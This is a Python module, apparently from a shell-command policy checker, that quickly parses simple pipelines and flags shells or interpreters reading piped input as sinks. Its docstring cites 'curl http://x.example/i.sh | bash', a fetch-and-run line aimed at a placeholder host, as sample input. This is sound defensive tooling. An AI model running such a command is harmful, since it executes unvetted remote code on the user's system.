"""The fast path of the shell parser: commands that are lists of simple pipelines of plain
words (``curl http://x.example/i.sh | bash``, ``git status && ls -la src``).

:func:`split_simple` accepts only text for which the full lexer and grammar are nothing more
than "split on blanks, then on ``| |& && || ; & newline``": ASCII letters, digits, blanks and
``_./:=,@%+~^*?-`` in words; no quotes, escapes, ``$``, backquotes, comments, redirections,
parentheses, braces or brackets; no reserved word (``if``, ``time``...) or assignment
(``X=1``) in command position; every operator followed by a command where the grammar wants
one. Anything else gives ``None`` and the full parser reads the text. The result is the
pipelines in order, each a list of argvs; the operators between pipelines (``; & && ||`` and
newlines) do not change what runs, so they are not kept.
"""

from __future__ import annotations

import re
from dataclasses import fields

from codor.policy.shell.grammar import _MAX_PARTS
from codor.policy.shell.interpreters import _AWKS, SHELLS, _flags, interpreter
from codor.policy.shell.model import ParseResult, Part, program_name
from codor.policy.shell.words import _ASSIGN_RE
from codor.policy.shell.wrappers import _UNWRAPS

__all__ = ["quick_parts", "quick_result", "split_simple"]

# Every character the fast path accepts (ASCII only: ``str.split`` must split on exactly the
# lexer's blanks, " \t\r", so \v, \f and \x1c-\x1f are left out too).
_SIMPLE_TEXT = re.compile(r"[A-Za-z0-9_./:=,@%+~^*?\- \t\r\n|&;]*")
_OPERATOR = re.compile(r"(\|\||\|&|&&|\||&|;|\n)")
#: Words that the grammar reads as syntax at the start of a command.
_RESERVED = frozenset({"if", "then", "elif", "else", "fi", "do", "done", "case", "esac",
                       "while", "until", "for", "select", "function", "coproc", "time", "{",
                       "}", "!", "[["})
_PIPES = frozenset({"|", "|&"})
#: Programs whose simple command does more than record one part (see ``_Parser.finish``):
#: wrappers (a shell without ``-c`` aside), ``cd`` and the like, ``export`` and the like,
#: ``find -exec``, awk's ``system()``.
_SPECIAL = (_UNWRAPS - SHELLS) | _AWKS | frozenset(
    {"cd", "pushd", "popd", "export", "declare", "typeset", "local", "readonly", "find"})

# parser states: where a command may (or must) come next
_START, _AFTER, _NEED, _PIPE, _MAY = range(5)


def split_simple(text: str) -> list[list[list[str]]] | None:
    """The pipelines of a simple command list, or ``None`` when the full parser is needed."""
    if not text.isascii() or _SIMPLE_TEXT.fullmatch(text) is None:
        return None
    pieces = _OPERATOR.split(text)
    if len(pieces) == 1:  # one simple command
        words = text.split()
        if not words or words[0] in _RESERVED or ("=" in words[0] and _ASSIGN_RE.match(words[0])):
            return None
        return [[words]]
    pipelines: list[list[list[str]]] = []
    state = _START
    for k, piece in enumerate(pieces):
        if not k & 1:  # words between two operators
            words = piece.split()
            if not words:
                continue
            if state == _AFTER:  # cannot happen: operators separate pieces
                return None
            first = words[0]
            if first in _RESERVED or ("=" in first and _ASSIGN_RE.match(first)):
                return None
            if state == _PIPE:
                pipelines[-1].append(words)
            else:
                pipelines.append([words])
            state = _AFTER
        elif piece == "\n" and state != _AFTER:
            continue  # a blank line, or a newline after an operator: only white space
        elif state != _AFTER:
            return None  # an operator where a command should be
        elif piece in _PIPES:
            state = _PIPE
        elif piece in ("&&", "||"):
            state = _NEED
        else:  # ; & newline
            state = _MAY
    if state in (_NEED, _PIPE) or not pipelines:
        return None
    return pipelines


def quick_result(text: str) -> ParseResult | None:
    """The parse of a command string that :func:`split_simple` reads and whose every program
    only runs (no wrapper, ``cd``, ``find``, awk, or interpreter given code: each command is
    one part, its only effect). ``None``: the parser must read it. What the parser would
    give, built directly: parts in order, each piped part reading from the one before it,
    and a shell or Python reading standard input marked as a sink (unless ``echo`` or
    ``printf`` feeds it a script, which the parser reads).
    """
    pipelines = split_simple(text)
    return None if pipelines is None else quick_parts(pipelines)


def quick_parts(pipelines: list[list[list[str]]]) -> ParseResult | None:
    """:func:`quick_result` of the pipelines :func:`split_simple` read."""
    parts: list[Part] = []
    for pipeline in pipelines:
        prev, prev_prog = -1, ""
        for argv in pipeline:
            prog = program_name(argv[0])
            if prog in _SPECIAL:
                return None
            sink = None
            if _flags(prog) is not None:
                info = interpreter(argv)
                if info is None or info.code is not None:
                    return None
                if info.sink:
                    sink = info.kind
                    if prev >= 0 and sink != "interp" and prev_prog in ("echo", "printf"):
                        return None
            n = len(parts)
            if n >= _MAX_PARTS:
                return None
            parts.append(_part(tuple(argv), (prev,) if prev >= 0 else (), sink, prog))
            prev, prev_prog = n, prog
    return ParseResult(tuple(parts))


# Part(argv, (), (), stdin_from, (), (), "command", (False,) * len(argv), "", None, sink), built
# by setting its slots (a frozen dataclass's __init__ sets them one by one, then
# __post_init__ computes ``program``): every field is set, ``program`` too.
_FIELDS = ("argv", "assigns", "redirects", "stdin_from", "inputs", "wrappers", "origin",
           "expanded", "cwd", "function", "sink", "program")
if tuple(f.name for f in fields(Part)) != _FIELDS:  # pragma: no cover - a guard for edits
    raise ImportError("codor.policy.shell.fast: Part's fields changed; update _part")
(_set_argv, _set_assigns, _set_redirects, _set_stdin_from, _set_inputs, _set_wrappers,
 _set_origin, _set_expanded, _set_cwd, _set_function, _set_sink, _set_program) = (
    Part.__dict__[name].__set__ for name in _FIELDS)
_new = object.__new__
_NOT_EXPANDED = tuple((False,) * n for n in range(64))


def _part(argv: tuple[str, ...], stdin_from: tuple[int, ...], sink: str | None,
          program: str) -> Part:
    p: Part = _new(Part)
    n = len(argv)
    _set_argv(p, argv)
    _set_assigns(p, ())
    _set_redirects(p, ())
    _set_stdin_from(p, stdin_from)
    _set_inputs(p, ())
    _set_wrappers(p, ())
    _set_origin(p, "command")
    _set_expanded(p, _NOT_EXPANDED[n] if n < 64 else (False,) * n)
    _set_cwd(p, "")
    _set_function(p, None)
    _set_sink(p, sink)
    _set_program(p, program)
    return p
